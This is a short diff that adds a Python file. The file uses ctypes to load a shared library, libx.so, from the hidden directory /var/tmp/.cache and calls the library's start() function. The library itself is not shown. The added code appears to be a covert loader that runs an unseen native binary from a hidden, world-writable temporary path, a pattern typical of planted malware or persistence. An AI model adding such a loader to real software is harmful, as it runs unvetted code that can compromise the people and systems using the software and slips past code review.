@@ -1,0 +1,3 @@
+import ctypes
+
+ctypes.CDLL('/var/tmp/.cache/libx.so').start()
